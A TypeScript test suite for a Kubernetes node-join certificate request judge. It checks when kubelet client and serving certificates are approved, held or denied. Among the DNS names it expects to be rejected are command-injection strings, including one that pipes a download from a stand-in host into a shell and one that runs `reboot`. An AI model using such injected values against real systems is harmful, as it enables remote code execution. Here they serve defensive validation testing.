import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { namespace, signers } from "../../api/names.ts";
import type { JoinPlace } from "../../api/kinds/join-place.ts";
import type { PlaceOfRequest } from "./join-places.ts";
import { type CsrFacts, type NameBinding, type NodeOfName, judgeCsr } from "./judge-csr.ts";
import type { KubeletRequest } from "./kubelet-request.ts";
import type { ShortForm } from "./service-names.ts";

const asked: KubeletRequest["asked"] = {
  commonNames: ["system:node:w0"],
  organizations: ["system:nodes"],
  dnsNames: [],
  ipAddresses: [],
  emailAddresses: [],
  uris: [],
  otherNames: 0,
  otherAttributes: 0,
};
const usages = ["digital signature", "client auth"];
const client = (more: Partial<KubeletRequest["asked"]> = {}, rest: Partial<KubeletRequest> = {}): KubeletRequest => ({
  signer: signers.kubeletClient,
  usages,
  asked: { ...asked, ...more },
  ...rest,
});
const serving = (more: Partial<KubeletRequest["asked"]> = {}): KubeletRequest =>
  client(
    { dnsNames: ["w0"], ipAddresses: ["10.0.0.1"], ...more },
    { signer: signers.kubeletServing, usages: ["digital signature", "server auth"] },
  );
const account = (pool: string) => ({
  username: `system:serviceaccount:${namespace}:node-bootstrapper-${pool}`,
  groups: ["system:serviceaccounts"],
});
const w0 = { username: "system:node:w0", groups: ["system:nodes", "system:authenticated"] };
const node: NodeOfName = {
  pool: undefined,
  inService: false,
};
const place = (isHeld = false): PlaceOfRequest => ({
  verdict: "free",
  isHeld,
  place: { metadata: { name: "place-1" }, spec: { pool: "worker", expiresAt: "" } } as JoinPlace,
});
const noPlace: PlaceOfRequest = { verdict: "none" };
const key = "a".repeat(64);
const form = (service: string | undefined, more: Partial<ShortForm> = {}): ShortForm => ({
  name: "w0",
  namespace: "b",
  service,
  isEndpoint: false,
  isLater: false,
  ...more,
});
const bound: NameBinding = {
  pool: "worker",
  publicKey: key,
  place: "own",
  isGood: true,
  hasRoom: true,
  addresses: ["10.0.0.1"],
};
const first: CsrFacts = {
  namespace,
  requester: account("worker"),
  request: client(),
  pools: ["master", "worker"],
  node: undefined,
  publicKey: key,
  binding: undefined,
  place: place(),
  heldFor: undefined,
  others: [],
  former: undefined,
  claimed: [],
  contested: [],
  machines: [],
  isRevoked: false,
  holder: "holder",
  shortForms: [],
};
const joined: NodeOfName = { pool: "worker", inService: true };

const said = (facts: CsrFacts): string => {
  const verdict = judgeCsr(facts);
  return verdict.verdict === "leave" ? "leave" : `${verdict.verdict} ${verdict.reason}`;
};

describe("judgeCsr", () => {
  test.for<{ title: string; facts: Partial<CsrFacts>; says: string }>([
    { title: "a machine with an unknown name joins", facts: {}, says: "approve NodeJoins" },
    {
      title: "a key of RSA needs one usage more",
      facts: { request: client({}, { usages: [...usages, "key encipherment"] }) },
      says: "approve NodeJoins",
    },
    {
      title: "a machine that tries again with its key, before it was ever ready, joins",
      facts: { node, binding: bound },
      says: "approve NodeJoins",
    },
    {
      title: "also when its node has its labels already",
      facts: { node: { ...node, pool: "worker" }, binding: bound },
      says: "approve NodeJoins",
    },
    { title: "also before its node is there", facts: { binding: bound }, says: "approve NodeJoins" },
    {
      title: "also where the API server does not say by which credential it came",
      facts: { binding: bound, place: { verdict: "unrecorded" } },
      says: "approve NodeJoins",
    },
    {
      title: "its request by a credential that is of no configuration, or of none any more, waits",
      facts: { binding: bound, place: noPlace },
      says: "wait NoPlace",
    },
    {
      title: "its request by the credential of another machine gets it no certificate",
      facts: { binding: bound, place: { verdict: "spent", machine: "w1", isEnded: false } },
      says: "wait PlaceSpent",
    },
    {
      title: "nor by one for another name",
      facts: { binding: bound, place: { verdict: "otherName", machine: "w1" } },
      says: "wait NameReserved",
    },
    {
      title: "a request that another configuration sends again is granted while the record has room",
      facts: { binding: bound, place: place() },
      says: "approve NodeJoins",
    },
    {
      title: "and waits where it would take a certificate out of the record",
      facts: { binding: { ...bound, hasRoom: false }, place: place() },
      says: "wait NameBound",
    },
    {
      title: "also where the API server does not say by which credential it came",
      facts: { binding: { ...bound, hasRoom: false }, place: { verdict: "unrecorded" } },
      says: "wait NameBound",
    },
    {
      title: "but not by the configuration that the name was bound by",
      facts: { binding: { ...bound, place: "place-1", hasRoom: false }, place: place() },
      says: "approve NodeJoins",
    },
    {
      title: "a second key gets no certificate for a name that is bound",
      facts: { binding: bound, publicKey: "b".repeat(64) },
      says: "wait NameBound",
    },
    {
      title: "nor does it while the node has not been in service",
      facts: { binding: bound, publicKey: "b".repeat(64), node: { ...node, pool: "worker" } },
      says: "wait NameBound",
    },
    {
      title: "nor the same key of another pool",
      facts: { binding: { ...bound, pool: "master" } },
      says: "wait NameBound",
    },
    {
      title: "a binding whose certificate has ended binds no more",
      facts: { binding: { ...bound, pool: "master", publicKey: "b".repeat(64), isGood: false } },
      says: "approve NodeJoins",
    },
    { title: "a name for which nothing was served waits", facts: { place: noPlace }, says: "wait NoPlace" },
    {
      title: "a name that another pool's token holds waits",
      facts: { heldFor: "master" },
      says: "wait NameReserved",
    },
    {
      title: "a name that another token of the same pool holds waits",
      facts: { heldFor: "worker" },
      says: "wait NameReserved",
    },
    {
      title: "a machine whose token is for another name waits",
      facts: { place: { verdict: "otherName", machine: "w1" } },
      says: "wait NameReserved",
    },
    {
      title: "a configuration that let in another machine, or another key, lets in no more",
      facts: { place: { verdict: "spent", machine: "w1", isEnded: false } },
      says: "wait PlaceSpent",
    },
    {
      title: "a request of which the API server does not say by which credential it came waits",
      facts: { place: { verdict: "unrecorded" } },
      says: "wait CredentialUnknown",
    },
    { title: "a node that joined in another way is protected", facts: { node }, says: "wait NodeNotOurs" },
    {
      title: "a node in service is protected",
      facts: { node: { ...node, inService: true }, binding: bound },
      says: "wait NodeInService",
    },
    { title: "not even where it joined in the same way", facts: { node: joined }, says: "wait NodeInService" },
    {
      title: "a node of another pool is protected",
      facts: { node: { ...node, pool: "master" } },
      says: "wait NodeOfOtherPool",
    },
    {
      title: "a pool that is not there takes no machines",
      facts: { requester: account("infra") },
      says: "wait PoolUnknown",
    },
    { title: "what cannot be read is denied", facts: { request: undefined }, says: "deny Malformed" },
    {
      title: "an account asks for no other signer's certificate",
      facts: { request: client({}, { signer: signers.client }) },
      says: "deny NotItsOwn",
    },
    { title: "nor for one to serve with", facts: { request: serving() }, says: "deny NotItsOwn" },
    {
      title: "another group is denied",
      facts: { request: client({ organizations: ["system:masters"] }) },
      says: "deny Malformed",
    },
    {
      title: "a second group is denied",
      facts: { request: client({ organizations: ["system:nodes", "system:masters"] }) },
      says: "deny Malformed",
    },
    {
      title: "a user that is no node is denied",
      facts: { request: client({ commonNames: ["admin"] }) },
      says: "deny Malformed",
    },
    {
      title: "a second common name is denied",
      facts: { request: client({ commonNames: ["system:node:w0", "system:node:w1"] }) },
      says: "deny Malformed",
    },
    {
      title: "a name that no node can have is denied",
      facts: { request: client({ commonNames: ["system:node:W_0"] }) },
      says: "deny Malformed",
    },
    {
      title: "an empty one, too",
      facts: { request: client({ commonNames: ["system:node:"] }) },
      says: "deny Malformed",
    },
    { title: "a client has no names", facts: { request: client({ dnsNames: ["api"] }) }, says: "deny Malformed" },
    { title: "nor names of odd kinds", facts: { request: client({ otherNames: 1 }) }, says: "deny Malformed" },
    {
      title: "a client does not serve",
      facts: { request: client({}, { usages: [...usages, "server auth"] }) },
      says: "deny Malformed",
    },
    {
      title: "a request of another namespace's account is ignored",
      facts: { requester: { username: "system:serviceaccount:elsewhere:node-bootstrapper-worker", groups: [] } },
      says: "leave",
    },
    {
      title: "a user's request is ignored",
      facts: { requester: { username: "alice", groups: ["system:masters"] } },
      says: "leave",
    },
    {
      title: "a node that joined here serves under its own names",
      facts: { requester: w0, request: serving(), node: joined, binding: bound },
      says: "approve NodeServes",
    },
    {
      title: "one of its names is enough",
      facts: {
        requester: w0,
        request: serving({ dnsNames: [], ipAddresses: ["10.0.0.1"] }),
        node: joined,
        binding: bound,
      },
      says: "approve NodeServes",
    },
    {
      title: "an address that the machine did not join from waits, whatever its node reports",
      facts: { requester: w0, request: serving({ ipAddresses: ["10.0.0.2"] }), node: joined, binding: bound },
      says: "wait AddressUnknown",
    },
    {
      title: "a name of the cluster's own is denied, whatever the node reports",
      facts: {
        requester: w0,
        request: serving({ dnsNames: ["kubernetes.default"] }),
        node: joined,
        binding: bound,
      },
      says: "deny NotItsOwn",
    },
    {
      title: "a name of a Service is denied",
      facts: { requester: w0, request: serving({ dnsNames: ["api.shop.svc"] }), node: joined, binding: bound },
      says: "deny NotItsOwn",
    },
    ...["10-0-0-1.shop.pod", "w0.shop.SVC", "w0.shop.Svc.Cluster.Local", "w0.CLUSTER.local.", "w0.shop.svc."].map(
      (dns) => ({
        title: `a name of a Service is denied however it is written: ${dns}`,
        facts: {
          requester: w0,
          request: serving({ dnsNames: [dns] }),
          node: joined,
          binding: bound,
        },
        says: "deny NotItsOwn",
      }),
    ),
    {
      title: "more names than a machine has are denied",
      facts: {
        requester: w0,
        request: serving({ dnsNames: Array.from({ length: 101 }, () => "w0") }),
        node: joined,
        binding: bound,
      },
      says: "deny Malformed",
    },
    {
      title: "a name that is not the node's own waits, whatever the node reports",
      facts: {
        requester: w0,
        request: serving({ dnsNames: ["registry.example"] }),
        node: joined,
        binding: bound,
      },
      says: "wait AddressUnknown",
    },
    {
      title: "names and addresses of other owners are denied, also to a machine that joined from there",
      facts: {
        requester: w0,
        request: serving(),
        node: joined,
        binding: bound,
        others: ["10.0.0.1 is an address of the Service default/kubernetes"],
      },
      says: "deny NotItsOwn",
    },
    {
      title: "a node whose join was not recorded is not ours, whatever it says of itself",
      facts: { requester: w0, node: joined, binding: undefined },
      says: "leave",
    },
    ...["$(curl${IFS}evil.example|sh)", "a;reboot", "w0_1", "*.example", "-"].map((dns) => ({
      title: `a name that no host has is denied: ${dns}`,
      facts: { requester: w0, request: serving({ dnsNames: ["w0", dns] }), node: joined, binding: bound },
      says: "deny Malformed",
    })),
    {
      title: "a longer form of its own name waits, whatever the node reports",
      facts: { requester: w0, request: serving({ dnsNames: ["w0", "w0.example"] }), node: joined, binding: bound },
      says: "wait AddressUnknown",
    },
    {
      title: "a host name that was recorded of the machine is its own, however it is written",
      facts: {
        requester: w0,
        request: serving({ dnsNames: ["W0.Example.", "w0"], ipAddresses: ["::ffff:10.0.0.1"] }),
        node: joined,
        binding: { ...bound, addresses: ["10.0.0.1", "w0.example"] },
      },
      says: "approve NodeServes",
    },
    ...(
      [
        ["that it chose itself waits", bound.addresses, [], "wait AddressUnknown"],
        ["that its token named is its own", ["10.0.0.1", "api.corp.example"], [], "approve NodeServes"],
        [
          "that its Machine has is its own",
          bound.addresses,
          [{ name: "m", addresses: ["api.corp.example"] }],
          "approve NodeServes",
        ],
      ] as const
    ).map(([title, addresses, machines, says]) => ({
      title: `a machine's own name with a dot in it ${title}`,
      facts: {
        requester: { ...w0, username: "system:node:api.corp.example" },
        request: serving({ commonNames: ["system:node:api.corp.example"], dnsNames: ["api.corp.example"] }),
        node: joined,
        binding: { ...bound, addresses },
        machines,
      },
      says,
    })),
    {
      title: "an address that another kubelet reports as well waits, and is not denied",
      facts: {
        requester: w0,
        request: serving(),
        node: joined,
        binding: bound,
        claimed: ["10.0.0.9 is reported by the node w1 as well"],
      },
      says: "wait AddressClaimed",
    },
    {
      title: "a name that pods resolve as a Service waits, also one that a token names",
      facts: { shortForms: [form("b/a")], place: place(true) },
      says: "wait NameOfService",
    },
    {
      title: "a name in a namespace waits",
      facts: { shortForms: [form(undefined)] },
      says: "wait NameOfService",
    },
    {
      title: "unless a token names it",
      facts: { shortForms: [form(undefined)], place: place(true) },
      says: "approve NodeJoins",
    },
    {
      title: "a machine that tries again has its name already",
      facts: { shortForms: [form("b/a")], binding: bound },
      says: "approve NodeJoins",
    },
    {
      title: "a node serves under its own name in a namespace that was created later",
      facts: {
        requester: w0,
        request: serving(),
        node: joined,
        binding: bound,
        shortForms: [form(undefined)],
      },
      says: "approve NodeServes",
    },
    {
      title: "a machine joins by a name of three parts, whatever Service its domain is called like",
      facts: { shortForms: [form("example/corp", { isEndpoint: true })], place: place(true) },
      says: "approve NodeJoins",
    },
    {
      title: "also if it chose that name itself",
      facts: { shortForms: [form("example/corp", { isEndpoint: true })] },
      says: "approve NodeJoins",
    },
    ...(
      [
        ["a Service that was there before takes the name", {}, ["w0.b"], [], "wait NameOfService"],
        [
          "a Service that was made later takes no name that a token gave",
          { isLater: true },
          ["w0.b"],
          [],
          "approve NodeServes",
        ],
        ["nor one that the machine API gave", { isLater: true }, [], ["w0.b"], "approve NodeServes"],
        ["and the machine does not take it either", { isLater: true }, [], [], "wait AddressUnknown"],
        [
          "a Service like its domain takes no name that a token gave",
          { isEndpoint: true },
          ["w0.b"],
          [],
          "approve NodeServes",
        ],
        ["nor one that the machine API gave", { isEndpoint: true }, [], ["w0.b"], "approve NodeServes"],
        [
          "a machine does not serve as an endpoint of a Service by its own word",
          { isEndpoint: true },
          [],
          [],
          "wait AddressUnknown",
        ],
      ] as const
    ).map(([title, more, addresses, ofMachine, says]) => ({
      title: `a node's own name: ${title}`,
      facts: {
        requester: { ...w0, username: "system:node:w0.b" },
        request: serving({ commonNames: ["system:node:w0.b"], dnsNames: ["w0.b"], ipAddresses: [] }),
        node: joined,
        binding: { ...bound, addresses },
        machines: ofMachine.length === 0 ? [] : [{ name: "m", addresses: ofMachine }],
        shortForms: [form("b/w0", { name: "w0.b", ...more })],
      },
      says,
    })),
    ...(
      [
        [
          "that an administrator recorded is its own, whatever Service is made later",
          { isLater: true },
          ["w0", "h.b"],
          [],
          "approve NodeServes",
        ],
        [
          "that an administrator recorded is its own, if a Service is called like its domain",
          { isEndpoint: true },
          ["h.b"],
          [],
          "approve NodeServes",
        ],
        [
          "that an administrator recorded waits, if it is that of a Service from before",
          {},
          ["h.b"],
          [],
          "wait NameOfService",
        ],
        [
          "that its Machine has waits, if it is that of a Service",
          { isEndpoint: true },
          [],
          ["h.b"],
          "wait NameOfService",
        ],
        ["that it reports waits, if it is that of a Service", { isLater: true }, [], [], "wait NameOfService"],
      ] as const
    ).map(([title, more, addresses, ofMachine, says]) => ({
      title: `another host name of a node ${title}`,
      facts: {
        requester: w0,
        request: serving({ dnsNames: ["w0", "h.b"], ipAddresses: [] }),
        node: joined,
        binding: { ...bound, addresses },
        machines: ofMachine.length === 0 ? [] : [{ name: "m", addresses: ofMachine }],
        shortForms: [form("b/h", { name: "h.b", ...more })],
      },
      says,
    })),
    {
      title: "a node whose name was released gets no certificate",
      facts: { requester: w0, node: joined, isRevoked: true },
      says: "wait NameRevoked",
    },
    {
      title: "nor does it when its annotation is gone, too",
      facts: { requester: w0, node, isRevoked: true },
      says: "wait NameRevoked",
    },
    {
      title: "a machine that had the name before renews nothing",
      facts: { requester: w0, node: joined, binding: bound, holder: "former" },
      says: "wait NameRevoked",
    },
    {
      title: "nor does it get a certificate to serve with",
      facts: { requester: w0, request: serving(), node: joined, binding: bound, holder: "former" },
      says: "wait NameRevoked",
    },
    {
      title: "a machine that may have had the name before renews nothing",
      facts: { requester: w0, node: joined, binding: bound, holder: "unknown" },
      says: "wait NameRevoked",
    },
    {
      title: "but serves, since that gives it no identity",
      facts: { requester: w0, request: serving(), node: joined, binding: bound, holder: "unknown" },
      says: "approve NodeServes",
    },
    {
      title: "the address of the one Machine that names the node is its own",
      facts: {
        requester: w0,
        request: serving({ ipAddresses: ["10.0.0.7"] }),
        node: joined,
        binding: bound,
        machines: [{ name: "m1", addresses: ["10.0.0.7"] }],
      },
      says: "approve NodeServes",
    },
    {
      title: "that of one of two Machines is not",
      facts: {
        requester: w0,
        request: serving({ ipAddresses: ["10.0.0.7"] }),
        node: joined,
        binding: bound,
        machines: [
          { name: "m1", addresses: ["10.0.0.7"] },
          { name: "m2", addresses: [] },
        ],
      },
      says: "wait AddressUnknown",
    },
    {
      title: "no control-plane machine by a name for which a machine of another pool has a certificate",
      facts: {
        requester: account("master"),
        place: {
          ...place(),
          place: { metadata: { name: "p" }, spec: { pool: "master", expiresAt: "" } },
        } as PlaceOfRequest,
        former: { pool: "worker", until: "2027-01-01T00:00:00Z" },
      },
      says: "wait NameOfFormer",
    },
    {
      title: "the place comes before the former machine",
      facts: {
        requester: account("master"),
        place: noPlace,
        former: { pool: "worker", until: "2027-01-01T00:00:00Z" },
      },
      says: "wait NoPlace",
    },
    {
      title: "an address of its record that is the API server's as well waits",
      facts: {
        requester: w0,
        request: serving(),
        node: joined,
        binding: bound,
        contested: ["10.0.0.1 is the API server"],
      },
      says: "wait AddressClaimed",
    },
    {
      title: "a node asks for no other node",
      facts: { requester: { ...w0, username: "system:node:w1" }, request: serving(), node: joined, binding: bound },
      says: "deny NotItsOwn",
    },
    {
      title: "a node that joined here renews its certificate",
      facts: { requester: w0, node: joined, binding: bound },
      says: "approve NodeRenews",
    },
    {
      title: "a node that others let in is theirs",
      facts: { requester: w0, request: serving(), node: joined },
      says: "leave",
    },
    {
      title: "requests for other signers are ignored",
      facts: { requester: w0, request: client({}, { signer: "example.com/mine" }), node: joined },
      says: "leave",
    },
    {
      title: "who only calls itself a node is none",
      facts: { requester: { username: "system:node:w0", groups: [] }, node: joined },
      says: "leave",
    },
  ])("$title [join-judge-csr-1]", ({ facts, says }) => {
    expect(said({ ...first, ...facts })).toBe(says);
  });

  test("for any request, an approval covers one node and its own names only [join-judge-csr-2]", () => {
    const texts = fc.subarray(
      ["system:node:w0", "system:node:w1", "system:masters", "system:nodes", "w0", "w1", "10.0.0.1", "10.0.0.2", ""],
      { maxLength: 3 },
    );
    const requests = fc.record<KubeletRequest>({
      signer: fc.constantFrom(...Object.values(signers)),
      usages: fc.subarray(["digital signature", "key encipherment", "client auth", "server auth", "cert sign"]),
      asked: fc.record({
        commonNames: texts,
        organizations: texts,
        dnsNames: texts,
        ipAddresses: texts,
        emailAddresses: fc.constantFrom([], ["a@b"]),
        uris: fc.constant([]),
        otherNames: fc.constantFrom(0, 0, 1),
        otherAttributes: fc.constantFrom(0, 0, 1),
      }),
    });
    const nodes = fc.constantFrom(undefined, node, joined, { ...joined, pool: "master" });
    let approved = 0;
    fc.assert(
      fc.property(
        fc.oneof(requests, fc.constantFrom(client(), serving())),
        fc.constantFrom(account("worker"), w0, { username: "alice", groups: [] }),
        nodes,
        fc.constantFrom(undefined, bound, { ...bound, pool: "master" }, { ...bound, isGood: false }),
        fc.constantFrom(key, "b".repeat(64)),
        (request, requester, there, binding, publicKey) => {
          const facts = { ...first, request, requester, node: there, binding, publicKey };
          if (judgeCsr(facts).verdict !== "approve") return;
          approved += 1;
          expect(request.asked.organizations).toEqual(["system:nodes"]);
          expect(request.asked.commonNames).toHaveLength(1);
          expect(request.usages).not.toContain("cert sign");
          expect(
            [...request.asked.dnsNames, ...request.asked.ipAddresses].filter(
              (name) => name !== "w0" && !bound.addresses.includes(name),
            ),
          ).toEqual([]);
          if (requester === w0) expect(request.asked.commonNames).toEqual(["system:node:w0"]);
          else {
            expect(there?.inService).not.toBe(true);
            // One key, and one pool, for as long as a certificate is good.
            if (binding?.isGood === true) expect([binding.pool, binding.publicKey]).toEqual(["worker", publicKey]);
          }
        },
      ),
      { numRuns: 2000 },
    );
    expect(approved).toBeGreaterThan(0);
  });
});
